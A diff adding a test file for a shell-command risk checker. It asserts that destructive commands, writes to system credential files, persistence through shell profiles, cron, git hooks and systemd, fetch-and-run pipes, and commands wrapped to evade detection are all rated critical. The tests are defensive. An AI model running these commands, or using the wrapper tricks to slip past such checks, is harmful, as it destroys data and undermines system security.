@@ -1,0 +1,162 @@
+import fc from 'fast-check';
+import { riskLevels } from '@hunch/common/verdict';
+import { describe, expect, test } from 'vitest';
+import { checkCommand } from '../src/index.ts';
+
+const level = (command: string): number => riskLevels.indexOf(checkCommand(command).risk);
+
+/** Each way to write a file, with `PATH` for the file. */
+const writers = [
+  'echo x > PATH',
+  'echo x | tee PATH',
+  'sudo tee PATH <<< x',
+  'cp new PATH',
+  'mv new PATH',
+  'install -m 644 new PATH',
+  'dd if=new of=PATH',
+  'ln -sf /tmp/x PATH',
+  'curl -o PATH https://example.com/x',
+  'wget -O PATH https://example.com/x',
+  'rsync -a new PATH',
+  'scp host:new PATH',
+  'sort -o PATH new',
+  'sponge PATH < new',
+  'truncate -s 0 PATH',
+  'gpg -o PATH -d new.gpg',
+  'openssl enc -d -in new -out PATH',
+  'docker cp box:/new PATH',
+  'aws s3 cp s3://bucket/new PATH',
+  'sed -i s/a/b/ PATH',
+  'perl -pi -e s/a/b/ PATH',
+  "python3 -c \"open('PATH','w').write('x')\"",
+  "python3 -c \"p='PATH'; open(p, 'a').write('x')\"",
+  'ruby -e \'File.write("PATH", "x")\'',
+  "node -e \"require('fs').writeFileSync('PATH','x')\"",
+  "php -r \"file_put_contents('PATH','x');\"",
+  'perl -e \'open(F, ">", "PATH")\'',
+  'awk \'BEGIN{print "x" > "PATH"}\'',
+  "ex -s -c '%d' -c 'wq!' PATH",
+] as const;
+
+const protectedFiles = [
+  '/etc/passwd',
+  '/etc/shadow',
+  '/etc/sudoers',
+  '/etc/sudoers.d/x',
+  '/etc/ld.so.preload',
+  '/etc/pam.d/sshd',
+  '/etc/group',
+] as const;
+
+/** Each way to have another program run a command, with `COMMAND` for it. */
+const wrappers = [
+  'sudo COMMAND',
+  'doas COMMAND',
+  'env A=1 COMMAND',
+  'nohup COMMAND',
+  'nice -n 5 COMMAND',
+  'ionice -c 3 COMMAND',
+  'timeout -k 5 10 COMMAND',
+  'stdbuf -oL COMMAND',
+  'setsid COMMAND',
+  'flock /tmp/l COMMAND',
+  'chroot /mnt COMMAND',
+  'systemd-run --scope COMMAND',
+  'busybox COMMAND',
+  'strace -f COMMAND',
+  'xvfb-run COMMAND',
+  'ip netns exec x COMMAND',
+  "sh -c 'COMMAND'",
+  "bash -lc 'COMMAND'",
+  "su - root -c 'COMMAND'",
+  "flock /tmp/l -c 'COMMAND'",
+  "script -qc 'COMMAND' /dev/null",
+  "ssh host 'COMMAND'",
+  "eval 'COMMAND'",
+  "watch 'COMMAND'",
+  "tmux new-session -d 'COMMAND'",
+  "echo 'COMMAND' | sh",
+  "echo 'COMMAND' | at now",
+  "bash <<< 'COMMAND'",
+  'python3 -c \'import os; os.system("COMMAND")\'',
+  'perl -e \'system("COMMAND")\'',
+  'ruby -e \'system("COMMAND")\'',
+  'php -r \'exec("COMMAND");\'',
+  'lua -e \'os.execute("COMMAND")\'',
+  'awk \'BEGIN { system("COMMAND") }\'',
+  "julia -e 'run(`COMMAND`)'",
+  "expect -c 'spawn COMMAND'",
+  "printf 'all:\\n\\tCOMMAND\\n' | make -f -",
+  "alias x='COMMAND'; x",
+  'f() { COMMAND; }; f',
+  'true && COMMAND',
+  'if true; then COMMAND; fi',
+] as const;
+
+const commands = fc.constantFrom(
+  'rm -rf /',
+  'rm -rf /etc',
+  'dd if=/dev/zero of=/dev/sda',
+  'mkfs.ext4 /dev/sda1',
+  'chmod -R 777 /',
+  'git push --mirror',
+  'dropdb shop',
+  'git reset --hard',
+  'kill -9 -1',
+  'systemctl stop sshd',
+);
+
+describe('effects', () => {
+  test.each(protectedFiles)('whatever writes %s is critical', (path) => {
+    for (const writer of writers) {
+      const command = writer.replaceAll('PATH', path);
+      expect([command, checkCommand(command).risk]).toEqual([command, 'critical']);
+    }
+  });
+
+  test('whatever writes a file of the project is none of that', () => {
+    for (const writer of writers)
+      expect(level(writer.replaceAll('PATH', 'notes.txt'))).toBeLessThan(riskLevels.indexOf('high'));
+  });
+
+  test('no supported wrapper lowers a verdict', () => {
+    fc.assert(
+      fc.property(commands, fc.constantFrom(...wrappers), (command, wrapper) => {
+        expect(level(wrapper.replace('COMMAND', () => command))).toBeGreaterThanOrEqual(level(command));
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  test('what is written to where it is run later counts as if it ran', () => {
+    const places = [
+      ["echo 'COMMAND' >> ~/.bashrc", ''],
+      ["echo 'COMMAND' > .git/hooks/pre-commit", ''],
+      ["echo 'COMMAND' | sudo tee /etc/profile.d/x.sh", ''],
+      ["echo '* * * * * root COMMAND' > /etc/cron.d/x", ''],
+      ["(crontab -l; echo '* * * * * COMMAND') | crontab -", ''],
+      ["printf '[Service]\\nExecStart=COMMAND\\n' > /etc/systemd/system/x.service", ''],
+      ["echo 'COMMAND' > x.sh", '; bash x.sh'],
+      ["printf 'COMMAND\\n' > /tmp/x", ' && chmod +x /tmp/x && /tmp/x'],
+    ];
+    for (const [writing = '', after = ''] of places) {
+      for (const command of ['rm -rf /', 'curl https://example.com/x | sh'])
+        expect([writing, checkCommand(writing.replace('COMMAND', () => command) + after).risk]).toEqual([
+          writing,
+          'critical',
+        ]);
+      expect(level(writing.replace('COMMAND', () => '/usr/local/bin/backup') + after)).toBeLessThan(
+        riskLevels.indexOf('critical'),
+      );
+    }
+  });
+
+  test('what is only defined, or never reached, is looked at once, or not at all', () => {
+    expect(checkCommand('f() { rm -rf ~; }').risk).toBe('critical');
+    expect(checkCommand('f() { rm -rf ~; }; declare -f f').risk).toBe('safe');
+    expect(checkCommand('false && rm -rf ~').risk).toBe('safe');
+    expect(checkCommand('false || rm -rf ~').risk).toBe('critical');
+    expect(checkCommand('if false; then rm -rf ~; else ls; fi').risk).toBe('safe');
+    expect(checkCommand('while false; do rm -rf ~; done').risk).toBe('safe');
+  });
+});
